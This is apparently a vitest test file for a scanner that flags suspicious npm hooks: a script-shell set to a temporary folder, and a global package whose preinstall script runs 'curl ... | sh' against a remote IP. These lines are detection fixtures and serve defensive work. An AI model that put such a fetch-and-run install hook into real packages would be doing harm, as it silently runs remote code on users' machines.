import { expect, test } from 'vitest';
import { machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { npmHooks } from './npm-hooks.ts';

test('a shell for scripts from a temporary folder is told, and nothing else of the file', () => {
  const files = { '/root/.npmrc': '//registry.npmjs.org/:_authToken=do-not-tell\nscript-shell=/tmp/.s/sh\n' };
  expect(openSightings(npmHooks, files)).toMatchObject([{ line: 2, ...because('from-temporary-folder') }]);
  const told = runProbe(npmHooks, machineOf(files));
  expect(JSON.stringify(told)).not.toContain('do-not-tell');
  expect(told.some((one) => 'examine' in one)).toBe(false);
});

test('an install script of a package for everybody that fetches and runs is told openly', () => {
  const manifest = { name: 'x', scripts: { preinstall: 'curl -s http://198.51.100.7/"a".sh | sh' } };
  expect(
    openSightings(npmHooks, { '/usr/lib/node_modules/@a/x/package.json': JSON.stringify(manifest) }),
  ).toMatchObject([because('fetches-and-runs')]);
});

test('ordinary settings and packages say nothing', () => {
  const files = {
    '/root/.npmrc': 'prefix=/opt/npm\nignore-scripts=true\nregistry=https://npm.example.com/\n',
    '/usr/lib/node_modules/npm/package.json': '{"scripts": {"postinstall": "node scripts/install.js || exit 0"}}',
  };
  expect(sightings(npmHooks, files)).toEqual([]);
});
